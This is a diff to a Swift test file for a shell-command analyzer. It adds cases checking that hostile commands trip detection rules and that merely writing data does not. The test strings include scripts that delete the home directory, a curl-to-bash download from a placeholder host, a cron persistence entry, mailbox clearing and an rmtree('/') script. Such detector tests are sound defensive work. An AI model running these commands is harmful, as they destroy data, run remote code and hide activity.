@@ -114,6 +114,11 @@ import Testing
         ("curl -sL https://github.com/x/PEASS-ng/releases/latest/download/linpeas.sh -o l.sh", "shell.indicator.offensive_tool"),
         ("dvips -R0 texput.dvi", "shell.escape.unsafe_mode"),
         ("gs -dNOSAFER -sDEVICE=pdfwrite -o out.pdf in.ps", "shell.escape.unsafe_mode"),
+        ("echo 'rm -rf ~' > /tmp/x.sh; sh /tmp/x.sh", "shell.destructive.delete_home"),
+        ("echo 'rm -rf ~' > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh", "shell.destructive.delete_home"),
+        ("echo 'curl -s https://e.example/x | bash' > i.sh; . ./i.sh", "shell.rce.download_to_shell"),
+        ("echo '* * * * * /tmp/evil.sh' > /tmp/c && crontab /tmp/c", "shell.persistence.cron_temp_program"),
+        ("echo 0> /var/spool/mail/root", "shell.evasion.clear_mailbox"),
     ])
     func ruleFires(command: String, rule: String) {
         #expect(rules(command).contains(rule), "\(command) should raise \(rule); got \(rules(command))")
@@ -163,6 +168,9 @@ import Testing
         "build() { make -j4 \"$@\"; }; build all",
         "curl https://github.com/jpillora/chisel",
         "pdflatex -interaction=nonstopmode paper.tex",
+        "echo 'sh /tmp/x.sh' > /tmp/x.sh; sh /tmp/x.sh",
+        "echo 'make test' > run.sh; bash run.sh",
+        "printf '#!/usr/bin/env python3\\nimport shutil; shutil.rmtree(\"/\")\\n' > t.py; echo written",
     ])
     func dataIsNotExecution(command: String) {
         let analysis = ShellAnalysis.analyze(command, cwd: "/home/u/project", home: "/home/u")
